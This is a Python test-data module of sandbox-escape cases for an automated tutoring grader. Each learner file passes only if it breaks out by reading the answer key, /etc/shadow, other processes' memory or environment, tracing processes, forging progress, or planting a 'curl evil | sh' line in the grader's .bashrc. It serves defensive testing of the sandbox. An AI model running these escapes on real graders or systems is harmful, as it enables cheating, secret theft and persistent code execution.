"""Escapes, one learner file each, that pass only if the escape works.

Every file returns the right answer (2 A) only when it managed what it must not: read the key,
the grader's memory or another student's work, write where the grader can, reach another process
or the network. Otherwise it returns A, which fails. So "not passed" proves the door is shut, and
`Case.verify` checks that nothing outside changed. The cases are data, so the same list runs in
pytest as root and, through tests/security/as_user.py, as an ordinary user.
"""

from __future__ import annotations

import os
import sqlite3
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from kit import CORRECT, MARKER, SECRET

PASS = "    return 2 * np.asarray(A, dtype=float)\n"


@dataclass
class Targets:
    """What an attacker is after, made fresh for each case."""

    root: Path
    pack: Path
    solution: Path
    checks: Path
    secret_file: Path
    other_submission: Path
    bashrc: Path
    progress_db: Path
    gradebook: Path
    socket_path: Path
    tcp_port: int
    snapshot: dict[Path, bytes] = field(default_factory=dict)

    def fill(self, template: str) -> str:
        values = {name: str(value) for name, value in vars(self).items() if isinstance(value, (Path, int))}
        return textwrap.dedent(template).format(marker=MARKER, secret=SECRET, **values)


def make_targets(root: Path, pack: Path, tcp_port: int, socket_path: Path) -> Targets:
    """Plant the secrets and the files an attacker would change, all under ``root``."""
    (root / "home").mkdir(parents=True, exist_ok=True)
    secret = root / "secret.txt"
    secret.write_text(SECRET)
    secret.chmod(0o600)
    other = root / "submissions" / "bob" / "double.py"
    other.parent.mkdir(parents=True, exist_ok=True)
    other.write_text(CORRECT + "# bob's own work\n")
    other.chmod(0o600)
    bashrc = root / "home" / ".bashrc"
    bashrc.write_text("# the grader's shell start-up\n")
    db = root / "workspace" / ".latent-tutor" / "progress.sqlite3"
    db.parent.mkdir(parents=True, exist_ok=True)
    with sqlite3.connect(db) as conn:
        conn.execute("CREATE TABLE IF NOT EXISTS attempts (pack TEXT, exercise TEXT, passed INTEGER)")
    targets = Targets(root, pack, pack / "solutions" / "double.py", pack / "checks" / "double.py", secret, other,
                      bashrc, db, root / "out" / "grades.csv", socket_path, tcp_port)
    for path in (targets.solution, targets.checks, targets.other_submission, targets.bashrc, targets.secret_file):
        targets.snapshot[path] = path.read_bytes()
    return targets


def unchanged(t: Targets) -> list[str]:
    """What changed among the planted files, the pack and the progress store."""
    problems = [f"{path} changed" for path, data in t.snapshot.items() if path.read_bytes() != data]
    problems += [f"{p} appeared" for p in t.pack.rglob("__pycache__")]
    with sqlite3.connect(t.progress_db) as conn:
        if conn.execute("SELECT count(*) FROM attempts").fetchone()[0]:
            problems.append("rows were added to the progress store")
    if t.gradebook.exists() or t.gradebook.parent.exists():
        problems.append("the gradebook's place was taken")
    for leftover in ("/tmp/lt-escape-marker", "/var/tmp/lt-escape-marker", "/dev/shm/lt-escape-marker"):
        if os.path.exists(leftover):
            problems.append(f"{leftover} was left behind")
            os.unlink(leftover)
    return problems


@dataclass(frozen=True)
class Case:
    source: str
    """A learner file (a template filled from `Targets`)."""
    kind: str = "files"
    """files, memory, processes: which layers stop it."""
    verify: Callable[[Targets], list[str]] = unchanged


def _case(body: str, kind: str = "files") -> Case:
    return Case("import numpy as np\n\ndef double(A):\n" + textwrap.indent(textwrap.dedent(body), "    ")
                + "    return A\n", kind)


ESCAPES: dict[str, Case] = {
    # -- reading what belongs to the grader ------------------------------------------------
    "read the answer key": _case("""
        for path in [{solution!r}]:
            try:
                ns = {{}}
                exec(open(path).read(), ns)
                return ns["double"](A)
            except Exception:
                pass
        """),
    "glob for the answer key": _case("""
        import glob
        for path in glob.glob("/**/solutions/double.py", recursive=True):
            try:
                ns = {{}}
                exec(open(path).read(), ns)
                return ns["double"](A)
            except Exception:
                pass
        """),
    "read a hidden check module": _case("""
        try:
            if {marker!r} in open({checks!r}).read():
                return 2 * np.asarray(A, dtype=float)
        except Exception:
            pass
        """),
    "read a file only the grader may read": _case("""
        try:
            if {secret!r} == open({secret_file!r}).read():
                return 2 * np.asarray(A, dtype=float)
        except Exception:
            pass
        """),
    "read /etc/shadow": _case("""
        try:
            open("/etc/shadow").read()
            return 2 * np.asarray(A, dtype=float)
        except Exception:
            pass
        """),
    "read a classmate's submission": _case("""
        try:
            text = open({other_submission!r}).read()
            ns = {{}}
            exec(text, ns)
            return ns["double"](A)
        except Exception:
            pass
        """),
    "open a terminal": _case("""
        import glob, os
        for path in glob.glob("/dev/pts/*") + ["/dev/tty", "/dev/console", "/dev/tty0"]:
            try:
                os.close(os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY))
                return 2 * np.asarray(A, dtype=float)
            except OSError:
                pass
        """),
    "read /proc of other processes": _case("""
        import os
        try:
            for name in os.listdir("/proc"):
                if name.isdigit() and int(name) != os.getpid():
                    open(f"/proc/{{name}}/environ", "rb").read()
                    return 2 * np.asarray(A, dtype=float)
        except OSError:
            pass
        """),
    "leak a secret through an exception": Case(textwrap.dedent("""\
        def double(A):
            try:
                text = open({secret_file!r}).read()
            except OSError as exc:
                text = str(exc)
            raise ValueError(text)
        """)),
    # -- reading the grader's memory -------------------------------------------------------
    "find the checks in memory": _case("""
        import gc, sys, traceback
        names = " ".join(sys.modules)
        if "_latent_tutor_pack" in names or "checkapi" in names or "tutor.core.grading" in names:
            return 2 * np.asarray(A, dtype=float)
        target = "hidden-check" + "-marker-8c1f2e"
        for obj in gc.get_objects():
            try:
                if type(obj).__name__ in ("CheckContext", "LoadedCheck", "Exercise", "Pack"):
                    return 2 * np.asarray(A, dtype=float)
                if isinstance(obj, dict) and target in [v for v in obj.values() if isinstance(v, str)]:
                    return 2 * np.asarray(A, dtype=float)
            except Exception:
                pass
        if any("checks" in frame.filename or "grading" in frame.filename for frame in traceback.extract_stack()):
            return 2 * np.asarray(A, dtype=float)
        """, "memory"),
    "read the grader's environment": _case("""
        import os
        if any({secret!r} in value for value in os.environ.values()):
            return 2 * np.asarray(A, dtype=float)
        """, "memory"),
    # -- writing where the grader can ------------------------------------------------------
    "append to the grader's .bashrc": _case("""
        try:
            with open({bashrc!r}, "a") as rc:
                rc.write("curl evil | sh\\n")
        except OSError:
            pass
        """),
    "rewrite the pack's checks": _case("""
        import os
        try:
            with open({checks!r}, "w") as f:
                f.write("from tutor.checks import check\\n@check()\\ndef free(ctx):\\n    pass\\n")
        except OSError:
            pass
        try:
            folder = os.path.join(os.path.dirname({checks!r}), "__pycache__")
            os.makedirs(folder)
            open(os.path.join(folder, "double.cpython-311.pyc"), "wb").write(b"poison")
        except OSError:
            pass
        """),
    "forge progress": _case("""
        import sqlite3
        try:
            with sqlite3.connect({progress_db!r}) as conn:
                conn.execute("INSERT INTO attempts VALUES ('mini', 'double', 1)")
        except Exception:
            pass
        """),
    "overwrite a classmate's submission": _case("""
        try:
            open({other_submission!r}, "w").write("def double(A):\\n    return A\\n")
        except OSError:
            pass
        """),
    "take the gradebook's place": _case("""
        import os
        try:
            os.makedirs({gradebook!r})
        except OSError:
            pass
        """),
    "leave files in /tmp, /var/tmp and /dev/shm": _case("""
        for folder in ("/tmp", "/var/tmp", "/dev/shm"):
            try:
                open(folder + "/lt-escape-marker", "w").write("left")
            except OSError:
                pass
        """),
    "fill the disk with small files": _case("""
        import os
        try:
            for i in range(200000):
                open(f"f{{i}}", "w").close()
        except OSError:
            pass
        """),
    # -- other processes and the kernel ----------------------------------------------------
    "trace another process": _case("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in range(1, 4096):
            if pid != os.getpid() and libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
                return 2 * np.asarray(A, dtype=float)
        """, "processes"),
    "write to another process's descriptors": _case("""
        import os
        for pid in range(1, 4096):
            try:
                with open(f"/proc/{{pid}}/fd/1", "w") as out:
                    out.write('{{"passed": true}}')
                return 2 * np.asarray(A, dtype=float)
            except OSError:
                pass
        """, "processes"),
    "connect to a unix socket on disk": _case("""
        import socket
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect({socket_path!r})
            if {secret!r}.encode() in s.recv(100):
                return 2 * np.asarray(A, dtype=float)
        except OSError:
            pass
        """, "processes"),
    "reach the network": _case("""
        import socket
        try:
            s = socket.create_connection(("127.0.0.1", {tcp_port}), timeout=1)
            if {secret!r}.encode() in s.recv(100):
                return 2 * np.asarray(A, dtype=float)
        except OSError:
            pass
        """, "processes"),
    "keep SysV shared memory": _case("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        got = [libc.shmget(0, 1 << 30, 0o1000 | 0o600) for _ in range(3)]
        if any(g >= 0 for g in got):
            return 2 * np.asarray(A, dtype=float)
        """, "processes"),
    "use capabilities of a user namespace": _case("""
        import ctypes, socket
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.mount(b"none", b".", b"tmpfs", 0, None) == 0:
            return 2 * np.asarray(A, dtype=float)
        if libc.unshare(0x10000000) == 0 or libc.unshare(0x00020000) == 0:
            return 2 * np.asarray(A, dtype=float)
        try:
            socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)  # NETLINK_NETFILTER
            return 2 * np.asarray(A, dtype=float)
        except OSError:
            pass
        """, "processes"),
}
